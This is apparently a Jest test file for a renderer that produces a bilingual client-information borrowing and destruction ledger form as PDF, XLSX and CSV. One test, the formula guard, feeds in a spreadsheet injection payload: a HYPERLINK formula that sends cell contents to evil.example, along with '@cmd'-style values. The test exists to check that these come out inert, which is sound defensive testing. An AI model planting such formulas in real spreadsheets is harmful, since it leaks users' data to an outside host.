import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { PDFDocument } from 'pdf-lib';
import { pdfText, reportToCsv, reportToPdf, reportToXlsx, type Report } from '../../src/lib/documents';
import { LEDGER_COLUMNS, LONG_PURPOSE, ledgerReport, serialOf } from './fixtures';

/*
 * R-LEDGER-FORM (§7): the Borrowing & Destruction Record Form (客戶信息借閱、銷毀記錄表) can be
 * produced from the ledger, as a printable PDF, a workbook and a CSV, with the Chinese headers
 * of the Rules' form. No database: the renderers are pure.
 */

async function readXlsx(buf: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as never); // exceljs declares its own Buffer type
  return wb;
}

const rowValues = (ws: ExcelJS.Worksheet, r: number) => (ws.getRow(r).values as ExcelJS.CellValue[]).slice(1);

/** Row number of the first row whose first cell is `text`. */
function findRow(ws: ExcelJS.Worksheet, text: string): number {
  for (let r = 1; r <= ws.rowCount; r++) if (ws.getRow(r).getCell(1).value === text) return r;
  throw new Error(`no row starting with ${text}`);
}

describe('R-LEDGER-FORM: the Borrowing & Destruction Record Form', () => {
  test('R-LEDGER-FORM: the record form renders Chinese headers in PDF, XLSX (zh row then en row) and CSV', async () => {
    const report = ledgerReport(5);

    // PDF: the Chinese really renders (embedded font, ToUnicode map) and extracts as text.
    const pdf = await reportToPdf(report);
    const pages = await pdfText(pdf);
    expect(pages).toHaveLength(1);
    const page = pages[0];
    expect(page).toContain('客戶信息借閱、銷毀記錄表');
    expect(page).toContain('Borrowing & Destruction Record Form');
    for (const c of LEDGER_COLUMNS) {
      expect(page).toContain(c.zh);
      expect(page).toContain(c.en);
    }
    expect(page).toContain('期間 Period：2026-11');
    expect(page).toContain('物業一部 PM1');
    expect(page).toContain('CC-2611-00001');
    expect(page).toContain('2026-11-28 00:30'); // 16:30Z in Asia/Shanghai
    expect(page).toContain('本表依據《客戶信息保密制度》第七條');
    expect(page).toContain('2026-11-28 10:00 (Asia/Shanghai) · alice · page 1 / 1');

    // XLSX: title and meta on top of the first sheet, then a Chinese header row, then an English one.
    const wb = await readXlsx(await reportToXlsx(report));
    const ws = wb.worksheets[0];
    expect(ws.getCell('A1').value).toBe('客戶信息借閱、銷毀記錄表');
    expect(ws.getCell('A2').value).toBe('Borrowing & Destruction Record Form');
    const periodRow = findRow(ws, '期間 Period');
    expect(ws.getRow(periodRow).getCell(2).value).toBe('2026-11');
    const zhRow = findRow(ws, '受控編號');
    expect(rowValues(ws, zhRow)).toEqual(LEDGER_COLUMNS.map((c) => c.zh));
    expect(rowValues(ws, zhRow + 1)).toEqual(LEDGER_COLUMNS.map((c) => c.en));
    expect(ws.getRow(zhRow).getCell(1).font?.bold).toBe(true);
    expect(ws.getRow(zhRow + 1).getCell(1).font?.bold).toBe(true);
    // Frozen below the two header rows.
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: zhRow + 1 });
    const first = ws.getRow(zhRow + 2);
    expect(first.getCell(1).value).toBe('CC-2611-00001');
    expect(first.getCell(2).value).toBe('陳大文');
    // A real Excel date, showing the Asia/Shanghai wall clock, with a date format.
    const borrowed = first.getCell(4);
    expect(borrowed.value).toBeInstanceOf(Date);
    expect((borrowed.value as Date).toISOString()).toBe('2026-11-28T00:30:00.000Z');
    expect(borrowed.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(first.getCell(8).value).toBe(1); // numbers stay numbers
    expect(first.getCell(6).value).toBeInstanceOf(Date);
    expect(ws.getRow(zhRow + 3).getCell(6).value).toBeNull();
    expect(ws.rowCount).toBe(zhRow + 1 + 5);
    // Paragraphs go to a Notes sheet.
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Borrowing and destruction', 'Notes']);
    const notes = wb.getWorksheet('Notes')!;
    expect(notes.getCell('A1').value).toBe('說明  Notes');
    expect(notes.getCell('A2').value).toBe('本表依據《客戶信息保密制度》第七條，由受控文件台賬生成。');

    // CSV: UTF-8 BOM, Chinese headers, English headers, then the rows, dates in Asia/Shanghai.
    const csv = reportToCsv(report);
    expect(csv.startsWith('\ufeff')).toBe(true);
    const records: string[][] = parse(csv, { bom: true, relax_column_count: false });
    expect(records[0]).toEqual(LEDGER_COLUMNS.map((c) => c.zh));
    expect(records[1]).toEqual(LEDGER_COLUMNS.map((c) => c.en));
    expect(records).toHaveLength(2 + 5);
    expect(records[2]).toEqual(['CC-2611-00001', '陳大文', '張偉', '2026-11-28 00:30', '核對業主信息', '2026-11-29 10:00', '李經理', '1']);
    expect(records[3][5]).toBe(''); // not destroyed yet
    expect(records[5][4]).toBe(LONG_PURPOSE); // the long Chinese text, whole, with its comma
  });

  test('R-LEDGER-FORM: a cell like =HYPERLINK(...) comes out inert in CSV and XLSX (formula guard)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"點擊")';
    const report: Report = {
      titleZh: '客戶信息借閱、銷毀記錄表',
      titleEn: 'Borrowing & Destruction Record Form',
      meta: [{ zh: '範圍', en: 'Scope', value: '@SUM(1+1)' }],
      sections: [
        {
          columns: [
            { key: 'a', zh: '用途', en: 'Purpose' },
            { key: 'b', zh: '備註', en: 'Remark' },
            { key: 'n', zh: '份數', en: 'Copies' },
          ],
          rows: [
            { a: evil, b: '+1-555', n: -5 },
            { a: '-2+3', b: '@cmd', n: 2 },
          ],
        },
      ],
      generatedAt: new Date('2026-11-28T02:00:00Z'),
    };

    const records: string[][] = parse(reportToCsv(report), { bom: true });
    expect(records[2]).toEqual([`'${evil}`, "'+1-555", '-5']);
    expect(records[3]).toEqual(["'-2+3", "'@cmd", '2']);

    const wb = await readXlsx(await reportToXlsx(report));
    const ws = wb.worksheets[0];
    const zhRow = findRow(ws, '用途');
    const cell = ws.getRow(zhRow + 2).getCell(1);
    expect(cell.value).toBe(`'${evil}`);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(ws.getRow(zhRow + 2).getCell(2).value).toBe("'+1-555");
    expect(ws.getRow(zhRow + 2).getCell(3).value).toBe(-5); // a number is not a formula
    expect(ws.getRow(zhRow + 3).getCell(1).value).toBe("'-2+3");
    expect(ws.getRow(zhRow + 3).getCell(2).value).toBe("'@cmd");
    expect(ws.getRow(findRow(ws, '範圍 Scope')).getCell(2).value).toBe("'@SUM(1+1)");
  });

  test('R-LEDGER-FORM: a month of 2,000 records paginates with the header rows repeated on every page, in seconds', async () => {
    const report = ledgerReport(2000);
    // CPU time, not wall-clock time: both jest projects (and anything else on the machine) run
    // at once, which stretches wall time but not the work done. Standalone it is about 1 s.
    const cpuMs = (since: NodeJS.CpuUsage) => {
      const u = process.cpuUsage(since);
      return (u.user + u.system) / 1000;
    };
    let t = process.cpuUsage();
    const pdf = await reportToPdf(report);
    const pdfMs = cpuMs(t);
    t = process.cpuUsage();
    const xlsx = await reportToXlsx(report);
    const xlsxMs = cpuMs(t);
    expect(pdfMs).toBeLessThan(4000);
    expect(xlsxMs).toBeLessThan(4000);

    const pages = await pdfText(pdf);
    expect(pages.length).toBeGreaterThan(20);
    // Checked as booleans per page, so that a failure names the page, not 100 pages of text.
    const missing = pages.flatMap((p, i) =>
      ['受控編號', 'Serial', '銷毀時間', 'Destroyed at', `alice · page ${i + 1} / ${pages.length}`, ...(i > 0 ? ['借閱及銷毀記錄 Borrowing and destruction（續）(continued)'] : [])]
        .filter((s) => !p.includes(s))
        .map((s) => `page ${i + 1}: ${s}`),
    );
    expect(missing).toEqual([]);
    // Every record exactly once, in order: nothing lost or repeated at page breaks.
    const serials = pages.join('\n').match(/CC-2611-\d{5}/g) ?? [];
    expect(serials.length).toBe(2000);
    expect(serials.every((s, i) => s === serialOf(i))).toBe(true);

    // Long Chinese text wraps inside its column: the whole text is there, over several lines.
    const all = pages.join('\n');
    expect(all.includes(LONG_PURPOSE)).toBe(false);
    expect(all.replace(/\n/g, '').includes(LONG_PURPOSE)).toBe(true);

    const wb = await readXlsx(xlsx);
    const ws = wb.worksheets[0];
    const zhRow = findRow(ws, '受控編號');
    expect(ws.rowCount).toBe(zhRow + 1 + 2000);
    expect(ws.getRow(ws.rowCount).getCell(1).value).toBe(serialOf(1999));
  });

  test('R-LEDGER-FORM: a cell taller than a page continues on the next page instead of being cut', async () => {
    const huge = Array.from({ length: 120 }, (_, i) => `第${i + 1}段：${LONG_PURPOSE}`).join('');
    const report: Report = {
      titleZh: '檢查報告',
      titleEn: 'Inspection report',
      sections: [{ headingZh: '發現', headingEn: 'Findings', columns: [{ key: 'n', zh: '序號', en: 'No', width: 0.4 }, { key: 't', zh: '內容', en: 'Finding', width: 4 }], rows: [{ n: 1, t: huge }, { n: 2, t: '最後一行 last row' }] }],
      generatedAt: new Date('2026-11-28T02:00:00Z'),
    };
    const pages = await pdfText(await reportToPdf(report));
    expect(pages.length).toBeGreaterThan(2);
    // The cell's text, page after page: between the repeated header and the footer.
    const body = pages.map((p) => p.slice(p.indexOf('\nFinding\n') + '\nFinding\n'.length, p.lastIndexOf('\n2026-11-28 10:00'))).join('');
    expect(body.replace(/\n/g, '').includes(huge)).toBe(true);
    expect(pages[pages.length - 1]).toContain('最後一行 last row');
  });

  test('R-LEDGER-FORM: a period without records still produces the form, saying so', async () => {
    const report = ledgerReport(0);
    (report.sections[0] as { emptyText?: string }).emptyText = '本期無借閱或銷毀記錄 No borrowing or destruction this period';
    const [page] = await pdfText(await reportToPdf(report));
    expect(page).toContain('受控編號');
    expect(page).toContain('本期無借閱或銷毀記錄 No borrowing or destruction this period');
    const wb = await readXlsx(await reportToXlsx(report));
    const ws = wb.worksheets[0];
    expect(ws.getRow(findRow(ws, '受控編號') + 2).getCell(1).value).toBe('本期無借閱或銷毀記錄 No borrowing or destruction this period');
    const records: string[][] = parse(reportToCsv(report), { bom: true });
    expect(records).toEqual([LEDGER_COLUMNS.map((c) => c.zh), LEDGER_COLUMNS.map((c) => c.en)]);
  });

  test('the PDF embeds a subset of the CJK font, carries Title and Producer, and can be watermarked on every page', async () => {
    const report = ledgerReport(5);
    const pdf = await reportToPdf(report);
    // A 9 MB font goes in as a subset of the glyphs used.
    expect(pdf.length).toBeLessThan(100_000);
    expect(pdf.includes('/ToUnicode')).toBe(true);
    expect(pdf.includes('/FontFile3')).toBe(true);
    const doc = await PDFDocument.load(pdf, { updateMetadata: false });
    expect(doc.getTitle()).toBe('客戶信息借閱、銷毀記錄表 Borrowing & Destruction Record Form');
    expect(doc.getProducer()).toBe('Custodian');
    expect(doc.getCreationDate()?.toISOString()).toBe('2026-11-28T02:00:00.000Z');
    // Landscape A4 for a table.
    const { width, height } = doc.getPage(0).getSize();
    expect([Math.round(width), Math.round(height)]).toEqual([842, 595]);
    // Same input, same file: a re-rendered form can be compared with the one handed out.
    expect((await reportToPdf(report)).equals(pdf)).toBe(true);

    const stamped = await reportToPdf(ledgerReport(60), { stamp: '草稿 DRAFT · alice', landscape: false });
    const pages = await pdfText(stamped);
    expect(pages.length).toBeGreaterThan(1);
    for (const p of pages) expect(p).toContain('草稿 DRAFT · alice');
    const portrait = (await PDFDocument.load(stamped, { updateMetadata: false })).getPage(0).getSize();
    expect(portrait.height).toBeGreaterThan(portrait.width);
  });

  test('CSV takes only the first table; XLSX gives each table its own sheet', async () => {
    const report = ledgerReport(2);
    report.sections.push({ headingZh: '監銷記錄', headingEn: 'Witnessed destruction', columns: [{ key: 'w', zh: '監銷人', en: 'Witness' }], rows: [{ w: '李經理' }] });
    const records: string[][] = parse(reportToCsv(report), { bom: true });
    expect(records).toHaveLength(4);
    const wb = await readXlsx(await reportToXlsx(report));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Borrowing and destruction', 'Witnessed destruction', 'Notes']);
    const second = wb.getWorksheet('Witnessed destruction')!;
    expect(second.getCell('A1').value).toBe('監銷記錄  Witnessed destruction');
    expect(rowValues(second, 2)).toEqual(['監銷人']);
    expect(rowValues(second, 3)).toEqual(['Witness']);
    expect(rowValues(second, 4)).toEqual(['李經理']);
    expect(second.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 });
  });
});
